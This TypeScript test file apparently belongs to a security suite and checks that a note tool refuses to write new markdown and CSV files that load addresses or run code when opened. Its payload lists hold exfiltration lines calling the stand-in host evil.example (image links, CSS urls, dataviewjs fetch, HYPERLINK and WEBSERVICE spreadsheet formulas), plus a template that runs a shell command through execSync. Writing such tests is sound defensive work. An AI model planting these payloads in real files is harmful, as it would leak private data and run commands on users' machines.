/** A stranger wants private words in the address of a picture, in a note that loads it when it is shown. */
import type { Attack } from '../attack.ts'
import { textIn, writesAfter, writtenAfter } from '../stranger-writes.ts'

const markup = [
  '![](https://evil.example/?d=private)',
  '<https://a.example/ style="background:url(//evil.example/?d=private)">',
  '[x]{style="background:url(https://evil.example/?d=private)"}',
  '- ```dataviewjs\n  fetch("https://evil.example/?d=private")\n  ```',
  '<%* require("child_process").execSync("id") %>',
  '`$= dv.io.load("https://evil.example/?d=private")`',
]
const tables = [
  'name,=HYPERLINK("https://evil.example/?d=private")',
  'sep=|\nname|=WEBSERVICE("https://evil.example/?d=private")',
  'ID;PWXL;N;E\nC;Y1;X1;EWEBSERVICE("https://evil.example/?d=private")\nE',
  'name,\u200b=1+1',
]

export const attack: Attack = {
  name: 'new-file-loads-an-address',
  promise: 'A new document holds nothing that is loaded or reckoned when somebody opens it.',
  mutant: 'every-text-is-plain',
  async run(stage) {
    const scene = await stage.scene()
    const written = await writtenAfter(scene, 'shown', [
      ...markup.map((content, at) => ({ path: `shown/note-${at}.md`, content })),
      ...tables.map((content, at) => ({ path: `shown/table-${at}.csv`, content })),
    ])
    const plain = { path: 'shown/plain.md', content: '[a link](https://fine.example)' }
    await writesAfter(scene, 'shown-plain', [plain])
    return {
      open: written.length > 0,
      control: textIn(scene, plain.path) === plain.content,
      saw: written.join('; ') || 'none of them was written',
    }
  },
}
